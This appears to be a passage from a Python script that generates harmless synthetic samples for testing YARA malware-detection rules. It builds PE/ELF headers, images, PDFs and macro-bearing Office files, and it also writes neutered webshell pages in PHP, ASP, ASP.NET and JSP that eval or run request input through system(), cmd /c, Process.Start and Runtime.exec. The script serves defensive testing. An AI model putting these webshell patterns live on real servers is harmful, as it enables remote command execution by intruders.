#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Write the sample files of the YARA rule test cases (rules/tests/yara-*.yaml)
into a folder, normally rules/tests/files/.

Every sample is synthetic, harmless and small (under 64 KiB):
  - webshell samples are server pages whose first statement ends the page
    (PHP "exit;", ASP "Response.End", JSP "return;"), so that even a copy
    put on a web server by mistake runs nothing;
  - URLs use the reserved .invalid domain; encoded or compressed payloads
    decode to a line that only prints "Vigil YARA test sample";
  - executables are bare headers (MZ + "PE\\0\\0" + COFF header, or an ELF
    header) with no code; Office files are compound files (OLE2) or ZIP
    archives whose VBA source only prints or echoes a message;
  - wallet addresses have the shape of real ones but are made up.
The EICAR test file is not written here: its case gives it in parts.

The output is the same, byte for byte, on every run and every machine:
no time stamps, no randomness, and the compression used in ZIP, PNG and
PHP samples is a fixed-Huffman deflate written below, not zlib's (whose
output can change between zlib builds). Only the Python 3 standard library
is used.

usage:
    /usr/bin/python3 tests/tools/make-yara-samples.py rules/tests/files

Edit the samples here, not in the output folder, then run the script again
and the YARA case runner.
"""
import base64
import hashlib
import os
import struct
import sys
import zlib

SAMPLE = "Vigil YARA test sample"

# --------------------------------------------------------------------------
# Compression helpers (deterministic)


def deflate_fixed(data):
    """Raw deflate (RFC 1951) of data as one final block with the fixed
    Huffman code, literals only: valid for any inflater, not small."""
    out = bytearray()
    acc = 0
    nbits = 0

    def put(value, count):  # LSB-first bit writer
        nonlocal acc, nbits
        acc |= value << nbits
        nbits += count
        while nbits >= 8:
            out.append(acc & 0xFF)
            acc >>= 8
            nbits -= 8

    def put_code(code, length):  # Huffman codes go MSB first
        rev = 0
        for _ in range(length):
            rev = (rev << 1) | (code & 1)
            code >>= 1
        put(rev, length)

    put(1, 1)  # BFINAL
    put(1, 2)  # BTYPE 01: fixed Huffman
    for b in data:
        if b < 144:
            put_code(0x30 + b, 8)
        else:
            put_code(0x190 + b - 144, 9)
    put_code(0, 7)  # end of block (256)
    if nbits:
        out.append(acc & 0xFF)
    return bytes(out)


def zlib_fixed(data):
    """zlib stream (RFC 1950) around deflate_fixed."""
    return (b"\x78\x01" + deflate_fixed(data) +
            struct.pack(">I", zlib.adler32(data) & 0xFFFFFFFF))


def zlib_stored(data):
    """zlib stream with stored (uncompressed) deflate blocks."""
    out = bytearray(b"\x78\x01")
    for off in range(0, max(len(data), 1), 65535):
        block = data[off:off + 65535]
        final = 1 if off + 65535 >= len(data) else 0
        out += struct.pack("<BHH", final, len(block), len(block) ^ 0xFFFF)
        out += block
    return bytes(out) + struct.pack(">I", zlib.adler32(data) & 0xFFFFFFFF)


def b64(data):
    return base64.b64encode(data).decode("ascii")


# --------------------------------------------------------------------------
# Executable headers


def tiny_pe():
    """MZ header with e_lfanew = 0x40, "PE\\0\\0", a COFF header for i386
    with no sections and no optional header. Nothing to run."""
    dos = bytearray(0x40)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x40)
    coff = struct.pack("<HHIIIHH", 0x014C, 0, 0, 0, 0, 0, 0x0102)
    return bytes(dos) + b"PE\0\0" + coff


def tiny_elf():
    """ELF64 little-endian header, type EXEC, x86-64, no program or
    section headers. Nothing to run."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400000, 0, 0,
                               0, 64, 56, 0, 64, 0, 0)


# --------------------------------------------------------------------------
# Images


def png_chunk(kind, data):
    return (struct.pack(">I", len(data)) + kind + data +
            struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def png(width, height, extra_chunks=()):
    """RGB PNG, a blue-grey gradient, with extra chunks before IDAT."""
    raw = bytearray()
    for y in range(height):
        raw.append(0)  # filter: none
        for x in range(width):
            raw += bytes([(x * 16) & 0xFF, (y * 16) & 0xFF, 0xA0])
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    out = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr)
    for kind, data in extra_chunks:
        out += png_chunk(kind, data)
    return out + png_chunk(b"IDAT", zlib_stored(bytes(raw))) + png_chunk(b"IEND", b"")


def gif(comment=None):
    """1x1 GIF89a, one colour, with an optional comment extension."""
    out = bytearray(b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0))
    out += b"\x20\x40\x80" + b"\xff\xff\xff"  # 2-entry global colour table
    if comment is not None:
        out += b"\x21\xfe"
        for off in range(0, len(comment), 255):
            part = comment[off:off + 255]
            out += bytes([len(part)]) + part
        out += b"\x00"
    out += b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)  # image descriptor
    out += b"\x02\x02\x44\x01\x00"  # LZW min size 2, one pixel of colour 0
    out += b"\x3b"  # trailer
    return bytes(out)


def jpeg_segment(marker, data):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data


def jpeg(segments=()):
    """8x8 grey baseline JPEG (one block, all coefficients zero) with
    one-code Huffman tables; extra segments go after APP0."""
    out = b"\xff\xd8"
    out += jpeg_segment(0xE0, b"JFIF\0\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    for marker, data in segments:
        out += jpeg_segment(marker, data)
    out += jpeg_segment(0xDB, b"\x00" + bytes([1]) * 64)
    out += jpeg_segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
    # DC table 0 and AC table 0: a single code of length 1 for symbol 0
    counts = bytes([1] + [0] * 15)
    out += jpeg_segment(0xC4, b"\x00" + counts + b"\x00")
    out += jpeg_segment(0xC4, b"\x10" + counts + b"\x00")
    out += jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    out += b"\x3f"  # DC diff 0 (code 0), EOB (code 0), padding ones
    return out + b"\xff\xd9"


# --------------------------------------------------------------------------
# PDF


def pdf(objects):
    """PDF 1.7 with the given object bodies (object 1 is the catalog) and
    a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for num, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


def pdf_stream(dictionary, data):
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def pdf_page_objects(text, first):
    """Pages tree, one page with a line of text and its font, numbered
    from `first` (the pages object)."""
    content = b"BT /F1 14 Tf 72 720 Td (" + text + b") Tj ET"
    return [
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (first + 1),
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (first, first + 2, first + 3),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        pdf_stream(b"", content),
    ]


def pdf_with_attachment(name, data, text):
    catalog = (b"<< /Type /Catalog /Pages 2 0 R "
               b"/Names << /EmbeddedFiles << /Names [(" + name + b") 6 0 R] >> >> >>")
    return pdf([catalog] + pdf_page_objects(text, 2) + [
        b"<< /Type /Filespec /F (" + name + b") /UF (" + name + b") /EF << /F 7 0 R >> >>",
        pdf_stream(b"/Type /EmbeddedFile", data),
    ])


def pdf_with_actions(actions, text):
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    return pdf([catalog] + pdf_page_objects(text, 2) + actions)


# --------------------------------------------------------------------------
# OLE2 compound files (MS-CFB version 3) and VBA projects (MS-OVBA)

ENDOFCHAIN = 0xFFFFFFFE
FREESECT = 0xFFFFFFFF
FATSECT = 0xFFFFFFFD
NOSTREAM = 0xFFFFFFFF


def cfb(tree):
    """Compound file from a tree of (name, bytes) streams and
    (name, [children]) storages; the root's children are given.
    512-byte sectors; every stream is under 4096 bytes and goes into the
    mini stream (64-byte mini sectors)."""
    entries = []  # [name, type, children ids, data]

    def add(name, node):
        idx = len(entries)
        if isinstance(node, (bytes, bytearray)):
            assert len(node) < 4096
            entries.append([name, 2, [], bytes(node)])
        else:
            entries.append([name, 1, [], None])
            entries[idx][2] = [add(n, c) for n, c in node]
        return idx

    entries.append(["Root Entry", 5, [], None])
    entries[0][2] = [add(n, c) for n, c in tree]

    # mini stream and mini FAT
    mini = bytearray()
    minifat = []
    start = {}
    for idx, (name, kind, _, data) in enumerate(entries):
        if kind != 2:
            continue
        first = len(mini) // 64
        nsec = (len(data) + 63) // 64
        start[idx] = first
        minifat += [first + i + 1 for i in range(nsec - 1)] + [ENDOFCHAIN]
        mini += data + bytes(nsec * 64 - len(data))

    # directory: children of a storage are chained through right siblings
    # in the CFB sort order (shorter names first, then by upper case)
    def key(i):
        return (len(entries[i][0]), entries[i][0].upper())

    right = {}
    child = {}
    for idx, (_, kind, kids, _) in enumerate(entries):
        if kids:
            kids = sorted(kids, key=key)
            child[idx] = kids[0]
            for a, b in zip(kids, kids[1:]):
                right[a] = b

    ndir = (len(entries) + 3) // 4
    nminifat = (len(minifat) + 127) // 128
    nmini = (len(mini) + 511) // 512
    # sector layout: FAT, directory, mini FAT, mini stream
    s_dir = 1
    s_minifat = s_dir + ndir
    s_mini = s_minifat + nminifat
    total = s_mini + nmini
    assert total <= 128, "one FAT sector is enough for 64 KiB"

    dirbytes = bytearray()
    for idx, (name, kind, _, data) in enumerate(entries):
        uname = name.encode("utf-16-le") + b"\0\0"
        assert len(uname) <= 64
        if kind == 5:
            sect, size = (s_mini if mini else ENDOFCHAIN), len(mini)
        elif kind == 2:
            sect, size = start[idx], len(data)
        else:
            sect, size = 0, 0
        dirbytes += (uname + bytes(64 - len(uname)) +
                     struct.pack("<HBBIII", len(uname), kind, 1, NOSTREAM,
                                 right.get(idx, NOSTREAM), child.get(idx, NOSTREAM)) +
                     bytes(16 + 4 + 8 + 8) + struct.pack("<IQ", sect, size))
    while len(dirbytes) < ndir * 512:
        dirbytes += bytes(64) + struct.pack("<HBBIII", 0, 0, 0, NOSTREAM, NOSTREAM, NOSTREAM) + bytes(48)

    def chain(first, count):
        return [first + i + 1 for i in range(count - 1)] + [ENDOFCHAIN]

    fat = [FATSECT] + chain(s_dir, ndir)
    if nminifat:
        fat += chain(s_minifat, nminifat)
    if nmini:
        fat += chain(s_mini, nmini)
    fat += [FREESECT] * (128 - len(fat))

    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, s_dir, 0, 4096,
                     s_minifat if nminifat else ENDOFCHAIN, nminifat, ENDOFCHAIN, 0)
    struct.pack_into("<I", header, 76, 0)
    for i in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * i, FREESECT)

    assert len(dirbytes) == ndir * 512
    minifatbytes = b"".join(struct.pack("<I", v) for v in minifat)
    minifatbytes += struct.pack("<I", FREESECT) * (nminifat * 128 - len(minifat))
    out = (bytes(header) + b"".join(struct.pack("<I", v) for v in fat) +
           bytes(dirbytes) + minifatbytes + bytes(mini) + bytes(nmini * 512 - len(mini)))
    return out


def ovba_compress(data):
    """MS-OVBA compressed container using literal tokens only (a flag
    byte of 0 before every 8 bytes): valid, if not smaller."""
    out = bytearray(b"\x01")
    for off in range(0, len(data), 3584):
        chunk = data[off:off + 3584]
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body.append(0)
            body += chunk[i:i + 8]
        out += struct.pack("<H", (len(body) + 2 - 3) | 0x3000 | 0x8000) + body
    return bytes(out)


def rec(rid, data):
    return struct.pack("<HI", rid, len(data)) + data


def vba_dir(modules):
    """The dir stream: project information, no references, and one
    MODULE record per (name, offset of its source, document module)."""
    u = lambda s: s.encode("utf-16-le")
    out = bytearray()
    out += rec(0x01, struct.pack("<I", 1))            # SYSKIND: 32-bit Windows
    out += rec(0x02, struct.pack("<I", 0x409))        # LCID
    out += rec(0x14, struct.pack("<I", 0x409))        # LCIDINVOKE
    out += rec(0x03, struct.pack("<H", 1252))         # CODEPAGE
    out += rec(0x04, b"Project")                      # NAME
    out += rec(0x05, b"") + rec(0x40, b"")            # DOCSTRING
    out += rec(0x06, b"") + rec(0x3D, b"")            # HELPFILEPATH
    out += rec(0x07, struct.pack("<I", 0))            # HELPCONTEXT
    out += rec(0x08, struct.pack("<I", 0))            # LIBFLAGS
    out += struct.pack("<HIIH", 0x09, 4, 1, 0)        # VERSION 1.0
    out += rec(0x0C, b"") + rec(0x3C, b"")            # CONSTANTS
    out += rec(0x0F, struct.pack("<H", len(modules)))  # MODULES
    out += rec(0x13, struct.pack("<H", 0xFFFF))       # PROJECTCOOKIE
    for name, offset, document in modules:
        out += rec(0x19, name.encode("ascii")) + rec(0x47, u(name))
        out += rec(0x1A, name.encode("ascii")) + rec(0x32, u(name))
        out += rec(0x1C, b"") + rec(0x48, b"")
        out += rec(0x31, struct.pack("<I", offset))
        out += rec(0x1E, struct.pack("<I", 0))
        out += rec(0x2C, struct.pack("<H", 0xFFFF))
        out += rec(0x22 if document else 0x21, b"")
        out += rec(0x2B, b"")
    out += rec(0x10, b"")
    return ovba_compress(bytes(out))


def vba_module(names, source):
    """A module stream: the compiled-code cache, which keeps identifiers
    and string literals as plain text (length-prefixed here), then the
    compressed source. Returns (stream, offset of the source)."""
    cache = bytearray(b"\x01\x16\x03\x00\x00\x00\x00\x00")
    for n in names:
        raw = n.encode("ascii")
        cache += struct.pack("<H", len(raw)) + raw
    cache += bytes(-len(cache) % 16)
    return bytes(cache) + ovba_compress(source.encode("ascii")), len(cache)


def vba_storage(module, names, source):
    """The VBA storage of a project with one document module, and the
    PROJECT stream that goes beside it."""
    stream, offset = vba_module(names, source)
    storage = [
        ("_VBA_PROJECT", b"\xcc\x61\xff\xff\x00\x00\x00"),
        ("dir", vba_dir([(module, offset, True)])),
        (module, stream),
    ]
    project = ('ID="{00000000-0000-0000-0000-000000000000}"\r\n'
               "Document=%s/&H00000000\r\n"
               'Name="Project"\r\nHelpContextID="0"\r\nVersionCompatible32="393222000"\r\n'
               "CMG=\"00\"\r\nDPB=\"00\"\r\nGC=\"00\"\r\n\r\n"
               "[Host Extender Info]\r\n&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n"
               % module).encode("ascii")
    return storage, project


def vba_source(module, body):
    head = ('Attribute VB_Name = "%s"\r\n'
            'Attribute VB_Base = "1Normal.%s"\r\n'
            "Attribute VB_GlobalNameSpace = False\r\n"
            "Attribute VB_Creatable = False\r\n"
            "Attribute VB_PredeclaredId = True\r\n"
            "Attribute VB_Exposed = True\r\n"
            "Attribute VB_TemplateDerived = True\r\n"
            "Attribute VB_Customizable = True\r\n"
            "' %s: synthetic and harmless.\r\n" % (module, module, SAMPLE))
    return head + body


def word_doc(text, vba=None):
    """.doc: a WordDocument stream (8-bit text after a short header) and,
    with vba = (names, body), a Macros storage holding the VBA project."""
    word = b"\xec\xa5\xc1\x00" + bytes(28) + text.encode("ascii")
    tree = [("WordDocument", word), ("1Table", bytes(64))]
    if vba:
        names, body = vba
        storage, project = vba_storage("ThisDocument", names, vba_source("ThisDocument", body))
        tree.append(("Macros", [("VBA", storage), ("PROJECT", project),
                                ("PROJECTwm", b"ThisDocument\0T\0h\0i\0s\0D\0o\0c\0u\0m\0e\0n\0t\0\0\0\0\0")]))
    return cfb(tree)


def excel_xls(vba):
    """.xls: a Workbook stream (a BIFF8 BOF and EOF record) and a
    _VBA_PROJECT_CUR storage with the VBA project."""
    names, body = vba
    bof = struct.pack("<HHHHII", 0x0809, 16, 0x0600, 0x0005, 0, 0)
    workbook = bof + struct.pack("<HH", 0x000A, 0)
    storage, project = vba_storage("ThisWorkbook", names, vba_source("ThisWorkbook", body))
    return cfb([("Workbook", workbook),
                ("_VBA_PROJECT_CUR", [("VBA", storage), ("PROJECT", project),
                                      ("PROJECTwm", b"ThisWorkbook\0T\0h\0i\0s\0W\0o\0r\0k\0b\0o\0o\0k\0\0\0\0\0")])])


def vba_project_bin(module, names, body):
    """vbaProject.bin as found in OOXML files."""
    storage, project = vba_storage(module, names, vba_source(module, body))
    return cfb([("VBA", storage), ("PROJECT", project)])


# --------------------------------------------------------------------------
# ZIP (OOXML)


def zip_archive(members):
    """ZIP of (name, data, compress) members, fixed date 1980-01-01."""
    out = bytearray()
    central = bytearray()
    for name, data, compress in members:
        raw = name.encode("ascii")
        packed = deflate_fixed(data) if compress else data
        method = 8 if compress else 0
        crc = zlib.crc32(data) & 0xFFFFFFFF
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21,
                           crc, len(packed), len(data), len(raw), 0) + raw + packed
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21,
                               crc, len(packed), len(data), len(raw), 0, 0, 0, 0, 0,
                               offset) + raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                      len(central), len(out), 0)
    return bytes(out + central + end)


def content_types(main, macro):
    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
           '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
           '<Default Extension="xml" ContentType="application/xml"/>')
    if macro:
        xml += '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    xml += '<Override PartName="/%s" ContentType="%s"/></Types>' % main
    return xml.encode("ascii")


def rels(target):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="%s"/></Relationships>' % target).encode("ascii")


def word_document_xml(text):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>" % text).encode("ascii")


def docx(text, vba=None, compress=False):
    """.docx, or .docm with vba = vbaProject.bin bytes."""
    ctype = ("application/vnd.ms-word.document.macroEnabled.main+xml" if vba
             else "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    members = [
        ("[Content_Types].xml", content_types(("word/document.xml", ctype), vba is not None), compress),
        ("_rels/.rels", rels("word/document.xml"), compress),
        ("word/document.xml", word_document_xml(text), compress),
    ]
    if vba:
        members.append(("word/_rels/document.xml.rels",
                        ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                         '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/'
                         'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>').encode("ascii"),
                        compress))
        members.append(("word/vbaProject.bin", vba, compress))
    return zip_archive(members)


def xlsm(vba, compress=True):
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             '<sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>').encode("ascii")
    ctype = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return zip_archive([
        ("[Content_Types].xml", content_types(("xl/workbook.xml", ctype), True), compress),
        ("_rels/.rels", rels("xl/workbook.xml"), compress),
        ("xl/workbook.xml", sheet, compress),
        ("xl/vbaProject.bin", vba, compress),
    ])


# --------------------------------------------------------------------------
# Made-up values

B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def fake_monero(seed):
    """95 characters of base58 starting with "4A": the shape of a Monero
    address, not a valid one (no real checksum)."""
    digest = b""
    block = seed.encode()
    while len(digest) < 93:
        block = hashlib.sha256(block).digest()
        digest += block
    return "4A" + "".join(B58[b % 58] for b in digest[:93])


# --------------------------------------------------------------------------
# Samples

PHP_HEAD = ("<?php\n// %s: synthetic; exit comes first, nothing below runs.\nexit;\n" % SAMPLE)
PAYLOAD = ("echo '%s: this line is the whole payload and only prints itself.';\n" % SAMPLE)
LONG_PAYLOAD = PAYLOAD * 4


def php(body):
    return (PHP_HEAD + body).encode("ascii")


def text_samples():
    s = {}

    # ---- PHP ----------------------------------------------------------
    s["php-eval-post.php"] = php("@eval($_POST['code']);\n")
    s["php-eval-input.php"] = php("eval(file_get_contents('php://input'));\n")
    s["php-system-get.php"] = php(
        "if (isset($_GET['cmd'])) {\n"
        "    echo '<pre>';\n"
        "    system($_GET['cmd']);\n"
        "    echo '</pre>';\n"
        "}\n")
    s["php-backtick.php"] = php("echo `$_GET[c]`;\n")
    s["php-eval-base64.php"] = php("eval(base64_decode($_POST['p']));\n")
    s["php-eval-base64-literal.php"] = php(
        "eval(base64_decode('%s'));\n" % b64(PAYLOAD.encode()))
    s["php-gzinflate-chain.php"] = php(
        "eval(gzinflate(base64_decode('%s')));\n" % b64(deflate_fixed(PAYLOAD.encode())))
    s["php-rot13-strrev-chain.php"] = php(
        "eval(str_rot13(strrev('%s')));\n"
        % PAYLOAD.strip().translate(str.maketrans(
            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
            "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"))[::-1].replace("'", "\\'"))
    s["php-packed-eval.php"] = php(
        "$p = gzuncompress(base64_decode('%s'));\n"
        "eval($p);\n" % b64(zlib_fixed(LONG_PAYLOAD.encode())))
    s["php-preg-replace-e.php"] = php("preg_replace('/.*/e', $_POST['x'], '');\n")
    s["php-preg-replace-benign.php"] = php(
        "// Normalise white space in a submitted name, and an old-style\n"
        "// callback on data that does not come from the request.\n"
        "$name = preg_replace('/\\s+/', ' ', trim($_POST['name']));\n"
        "$text = preg_replace('/(\\d+)/e', 'sprintf(\"%05d\", \"\\\\1\")', $text);\n"
        "$slug = preg_replace('#[^a-z0-9]+#i', '-', $_GET['title']);\n")
    s["php-dropper.php"] = php(
        "file_put_contents('wp-cache.php', base64_decode('%s'));\n"
        % b64(("<?php echo '%s'; ?>" % SAMPLE).encode()))
    s["php-save-image.php"] = php(
        "// Save a canvas image sent as base64: the name is fixed, the\n"
        "// content is an image, nothing is evaluated.\n"
        "$dir = __DIR__ . '/uploads';\n"
        "$data = base64_decode($_POST['image'], true);\n"
        "if ($data !== false && substr($data, 0, 8) === \"\\x89PNG\\r\\n\\x1a\\n\") {\n"
        "    file_put_contents($dir . '/avatar-' . (int)$_SESSION['uid'] . '.png', $data);\n"
        "}\n"
        "$fh = fopen($dir . '/upload.log', 'a');\n"
        "fwrite($fh, date('c') . \" avatar saved\\n\");\n"
        "fclose($fh);\n")
    s["php-uploader.php"] = php(
        "if (!empty($_FILES['f'])) {\n"
        "    move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);\n"
        "    echo 'ok';\n"
        "}\n"
        "?>\n<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><input type=\"submit\"></form>\n")
    s["php-upload-handler.php"] = php(
        "$target_dir = __DIR__ . '/uploads/';\n"
        "$name = basename($_FILES['document']['name']);\n"
        "$ext = strtolower(pathinfo($name, PATHINFO_EXTENSION));\n"
        "if (!in_array($ext, ['pdf', 'png', 'jpg'], true)) {\n"
        "    http_response_code(415);\n"
        "    exit;\n"
        "}\n"
        "$target = $target_dir . bin2hex(random_bytes(8)) . '.' . $ext;\n"
        "move_uploaded_file($_FILES['document']['tmp_name'], $target);\n")
    s["php-variable-function.php"] = php(
        "$f = \"sys\" . \"tem\";\n"
        "$f($_GET['c']);\n")
    s["php-request-function.php"] = php("$_GET['f']($_GET['a']);\n")
    s["php-variable-function-benign.php"] = php(
        "// A formatter chosen from a fixed list, applied to a request field.\n"
        "$formatters = ['upper' => 'strtoupper', 'lower' => 'strtolower'];\n"
        "$format = $formatters[$_GET['format'] ?? 'lower'] ?? 'strtolower';\n"
        "$label = 'Name' . ': ';\n"
        "echo $label . htmlspecialchars($format($_GET['name']));\n"
        "$items = array_map('trim', $_POST['tags']);\n"
        "usort($items, 'strcmp');\n"
        "call_user_func([$this, 'render'], $items);\n")
    s["php-benign-framework.php"] = (
        "<?php\n"
        "// A controller in the style of common PHP frameworks: request data is\n"
        "// read, decoded and stored, but never evaluated or run.\n"
        "namespace App\\Controller;\n\n"
        "final class ProfileController\n{\n"
        "    public function __construct(private \\PDO $pdo) {}\n\n"
        "    public function show(): string\n    {\n"
        "        $prefs = json_decode(base64_decode($_COOKIE['prefs'] ?? ''), true) ?: [];\n"
        "        $stmt = $this->pdo->prepare('SELECT * FROM users WHERE id = ?');\n"
        "        $stmt->execute([(int)($_GET['id'] ?? 0)]);\n"
        "        $this->pdo->exec('UPDATE stats SET views = views + 1');\n"
        "        $ch = curl_init('https://api.example.invalid/avatar');\n"
        "        $img = curl_exec($ch);\n"
        "        // never eval() or system() request data such as $_GET['x']\n"
        "        $cache = unserialize(gzuncompress(base64_decode($prefs['cache'] ?? '')));\n"
        "        return htmlspecialchars(json_encode([$stmt->fetch(), $cache, strlen($img)]));\n"
        "    }\n}\n").encode("ascii")

    # ---- ASP, ASP.NET, JSP --------------------------------------------
    asp_head = "<%\r\n' " + SAMPLE + ": synthetic; Response.End comes first.\r\nResponse.End\r\n%>\r\n"
    s["asp-eval-request.asp"] = (asp_head + "<% eval request(\"x\") %>\r\n").encode("ascii")
    s["aspx-eval-item.aspx"] = (
        "<%@ Page Language=\"Jscript\" %>\r\n"
        "<% Response.End(); %>\r\n"
        "<% eval(Request.Item[\"x\"], \"unsafe\"); %>\r\n").encode("ascii")
    s["asp-benign.asp"] = (
        asp_head +
        "<%\r\nDim conn, cmd, name\r\n"
        "name = Request.Form(\"name\")\r\n"
        "Set cmd = Server.CreateObject(\"ADODB.Command\")\r\n"
        "cmd.CommandText = \"INSERT INTO visitors (name) VALUES (?)\"\r\n"
        "cmd.Execute , Array(name)\r\n"
        "' We execute requests in the order received (see the manual).\r\n"
        "Set sh = Server.CreateObject(\"WScript.Shell\")\r\n"
        "Response.Write Server.HTMLEncode(sh.RegRead(\"HKLM\\Software\\Example\\Version\"))\r\n"
        "Response.Write Server.HTMLEncode(name)\r\n%>\r\n").encode("ascii")
    s["asp-wscript-shell.asp"] = (
        asp_head +
        "<%\r\nSet sh = Server.CreateObject(\"WScript.Shell\")\r\n"
        "Set ex = sh.Exec(\"cmd /c \" & Request(\"c\"))\r\n"
        "Response.Write ex.StdOut.ReadAll()\r\n%>\r\n").encode("ascii")
    aspx_head = ("<%@ Page Language=\"C#\" %>\r\n<%@ Import Namespace=\"System.Diagnostics\" %>\r\n"
                 "<%-- " + SAMPLE + ": synthetic; Page_Load returns first. --%>\r\n")
    s["aspx-process-start.aspx"] = (
        aspx_head +
        "<script runat=\"server\">\r\n"
        "void Page_Load(object sender, EventArgs e) {\r\n"
        "    if (true) return;\r\n"
        "    var p = Process.Start(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]);\r\n"
        "    Response.Write(p.StandardOutput.ReadToEnd());\r\n"
        "}\r\n</script>\r\n").encode("ascii")
    s["aspx-process-benign.aspx"] = (
        aspx_head +
        "<script runat=\"server\">\r\n"
        "void Page_Load(object sender, EventArgs e) {\r\n"
        "    if (true) return;\r\n"
        "    int id = int.Parse(Request.QueryString[\"id\"]);\r\n"
        "    var info = new ProcessStartInfo(@\"C:\\Tools\\report.exe\", \"--daily\");\r\n"
        "    info.UseShellExecute = false;\r\n"
        "    Process.Start(info).WaitForExit();\r\n"
        "    Response.Write(Server.HtmlEncode(id.ToString()));\r\n"
        "}\r\n</script>\r\n").encode("ascii")
    s["aspx-assembly-load.aspx"] = (
        aspx_head +
        "<script runat=\"server\">\r\n"
        "void Page_Load(object sender, EventArgs e) {\r\n"
        "    if (true) return;\r\n"
        "    byte[] b = Convert.FromBase64String(Request.Form[\"d\"]);\r\n"
        "    System.Reflection.Assembly.Load(b).CreateInstance(\"X\").Equals(this);\r\n"
        "}\r\n</script>\r\n").encode("ascii")
    s["aspx-base64-benign.aspx"] = (
        aspx_head +
        "<script runat=\"server\">\r\n"
        "void Page_Load(object sender, EventArgs e) {\r\n"
        "    if (true) return;\r\n"
        "    byte[] png = Convert.FromBase64String(Request.Form[\"image\"]);\r\n"
        "    System.IO.File.WriteAllBytes(Server.MapPath(\"~/App_Data/avatar.png\"), png);\r\n"
        "    var asm = System.Reflection.Assembly.GetExecutingAssembly();\r\n"
        "    Response.Write(Server.HtmlEncode(asm.GetName().Version.ToString()));\r\n"
        "}\r\n</script>\r\n").encode("ascii")
    jsp_head = ("<%-- " + SAMPLE + ": synthetic; the page returns first. --%>\n"
                "<%@ page import=\"java.io.*\" %>\n<% if (true) { return; } %>\n")
    s["jsp-runtime-exec.jsp"] = (
        jsp_head +
        "<%\nProcess p = Runtime.getRuntime().exec(request.getParameter(\"cmd\"));\n"
        "BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n"
        "String line;\nwhile ((line = r.readLine()) != null) { out.println(line); }\n%>\n").encode("ascii")
    s["jsp-runtime-exec-var.jsp"] = (
        jsp_head +
        "<%\nString c = request.getParameter(\"c\");\n"
